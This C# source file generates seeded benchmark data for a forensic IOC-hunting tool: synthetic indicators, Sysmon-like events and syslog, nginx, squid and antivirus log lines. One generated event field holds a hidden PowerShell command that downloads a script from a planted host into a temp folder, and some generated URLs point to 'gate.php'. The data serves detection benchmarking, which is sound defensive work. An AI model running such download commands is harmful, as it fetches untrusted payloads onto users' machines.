using System.Text;
using Ribat.Forensics.Hunting;
using Ribat.Forensics.Ioc;
using Ribat.Forensics.Logs;

namespace Ribat.Bench;

/// <summary>
/// Seeded data for the IOC benchmark: canonical indicators in the mix a CERT feed has (addresses first, then
/// digests, names, URLs, blocks), Sysmon-like events, and log-like text with a fraction of lines holding a pattern.
/// </summary>
internal static class IocBenchData
{
    private static readonly string[] Tlds = ["com", "net", "org", "top", "xyz", "ru", "info", "example"];
    private static readonly string[] Users = ["jdoe", "asmith", "svc_backup", "administrator", "m.khan", "l.martin"];

    public static IocIndicator Indicator(ref SplitMix random, int index) => (index % 20) switch
    {
        < 8 => new IocIndicator(ObservableType.IPv4, Ipv4(ref random), $"ind-{index}"),
        < 11 => new IocIndicator(ObservableType.Sha256, Hex(ref random, 64), $"ind-{index}"),
        < 13 => new IocIndicator(ObservableType.Md5, Hex(ref random, 32), $"ind-{index}"),
        < 17 => new IocIndicator(ObservableType.Domain, Domain(ref random, index), $"ind-{index}"),
        < 19 => new IocIndicator(ObservableType.Url, $"https://{Domain(ref random, index)}/{Hex(ref random, 8)}/gate.php", $"ind-{index}"),
        _ => new IocIndicator(ObservableType.Cidr, $"{Ipv4Prefix(ref random)}.0/24", $"ind-{index}"),
    };

    /// <summary>A value of the same type and shape as <paramref name="like"/> that no set holds (another seed space).</summary>
    public static string Absent(ref SplitMix random, IocIndicator like, int index) => like.Type switch
    {
        ObservableType.IPv4 => $"240.{random.Below(256)}.{random.Below(256)}.{random.Below(256)}",
        ObservableType.Sha256 or ObservableType.Md5 => Hex(ref random, like.Value.Length),
        ObservableType.Url => $"https://absent-{index}.example/x",
        ObservableType.Cidr => "240.0.0.0/24",
        _ => $"absent-{index}.{Tlds[random.Below(Tlds.Length)]}",
    };

    /// <summary>A process-creation or network event; one in <paramref name="hitEvery"/> holds one of the indicators.</summary>
    public static LogEvent Event(ref SplitMix random, long id, IReadOnlyList<IocIndicator> indicators, int hitEvery)
    {
        var user = Users[random.Below(Users.Length)];
        var planted = random.Below(hitEvery) == 0 ? indicators[random.Below(indicators.Count)].Value : $"cdn{random.Below(50)}.contoso.com";
        var hashes = $"MD5={Hex(ref random, 32).ToUpperInvariant()},SHA256={Hex(ref random, 64).ToUpperInvariant()},IMPHASH={Hex(ref random, 32).ToUpperInvariant()}";
        LogField[] fields =
        [
            new("EventID", random.Below(2) == 0 ? "1" : "3"),
            new("Computer", $"ws-{random.Below(400):D3}.corp.contoso.com"),
            new("User", $"CONTOSO\\{user}"),
            new("Image", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
            new("CommandLine", $"powershell.exe -nop -w hidden -c \"iwr https://{planted}/u/{Hex(ref random, 6)} -OutFile C:\\Users\\{user}\\AppData\\Local\\Temp\\a.ps1\""),
            new("Hashes", hashes),
            new("SourceIp", $"10.{random.Below(256)}.{random.Below(256)}.{random.Below(256)}"),
            new("DestinationIp", Ipv4(ref random)),
            new("DestinationHostname", $"edge-{random.Below(90)}.msedge.net"),
            new("DestinationPort", "443"),
        ];
        return new LogEvent(LogFormat.Evtx, "bench.evtx", id, null, fields);
    }

    /// <summary>Patterns of IOC shape: names, addresses and digests, in equal parts.</summary>
    public static List<string> Patterns(ulong seed, int count)
    {
        var random = new SplitMix(seed ^ 0x9A77E645UL);
        var patterns = new List<string>(count);
        for (var i = 0; i < count; i++)
        {
            patterns.Add((i % 4) switch
            {
                0 => Domain(ref random, i),
                1 => Ipv4(ref random),
                2 => Hex(ref random, 64),
                _ => Hex(ref random, 32),
            });
        }

        return patterns;
    }

    /// <summary>
    /// Writes about <paramref name="bytes"/> of syslog, web and proxy lines; one line in <paramref name="hitEvery"/>
    /// holds one of the patterns. Returns the number of lines written.
    /// </summary>
    public static long WriteText(string path, long bytes, ulong seed, IReadOnlyList<string> patterns, int hitEvery)
    {
        var random = new SplitMix(seed ^ 0x7E47UL);
        using var file = new FileStream(path, FileMode.Create, FileAccess.Write, FileShare.None, 1 << 20);
        using var writer = new StreamWriter(file, new UTF8Encoding(false), 1 << 20);
        long lines = 0;
        while (file.Position < bytes)
        {
            for (var i = 0; i < 4096; i++)
            {
                lines++;
                var planted = random.Below(hitEvery) == 0 ? patterns[random.Below(patterns.Count)] : null;
                writer.Write("2026-11-22T");
                writer.Write($"{random.Below(24):D2}:{random.Below(60):D2}:{random.Below(60):D2}.{random.Below(1000):D3}Z srv-{random.Below(64):D2} ");
                switch (random.Below(4))
                {
                    case 0:
                        writer.Write($"sshd[{random.Below(30000)}]: Accepted publickey for {Users[random.Below(Users.Length)]} from {planted ?? Ipv4(ref random)} port {random.Below(65535)} ssh2\n");
                        break;
                    case 1:
                        writer.Write($"nginx: {Ipv4(ref random)} - - \"GET /static/app.{Hex(ref random, 8)}.js?v={random.Below(100)} HTTP/1.1\" 200 {random.Below(90000)} \"https://www.{planted ?? "shop.contoso.com"}/\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"\n");
                        break;
                    case 2:
                        writer.Write($"squid: CONNECT {planted ?? $"cdn{random.Below(99)}.akamaiedge.net"}:443 user={Users[random.Below(Users.Length)]} bytes={random.Below(1 << 20)} status=200\n");
                        break;
                    default:
                        writer.Write($"av: scanned C:\\Users\\{Users[random.Below(Users.Length)]}\\Downloads\\invoice_{random.Below(9999)}.pdf sha256={planted ?? Hex(ref random, 64)} result=clean\n");
                        break;
                }
            }

            writer.Flush();
        }

        return lines;
    }

    private static string Ipv4(ref SplitMix random) => $"{Ipv4Prefix(ref random)}.{random.Below(256)}";

    private static string Ipv4Prefix(ref SplitMix random) => $"{1 + random.Below(222)}.{random.Below(256)}.{random.Below(256)}";

    private static string Domain(ref SplitMix random, int index) =>
        $"{Hex(ref random, 6)}-{index}.{Tlds[random.Below(Tlds.Length)]}";

    private static string Hex(ref SplitMix random, int length)
    {
        Span<char> chars = stackalloc char[length];
        for (var i = 0; i < length; i += 16)
        {
            var bits = random.Next();
            for (var k = 0; k < 16 && i + k < length; k++)
            {
                chars[i + k] = "0123456789abcdef"[(int)((bits >> (4 * k)) & 15)];
            }
        }

        return new string(chars);
    }
}
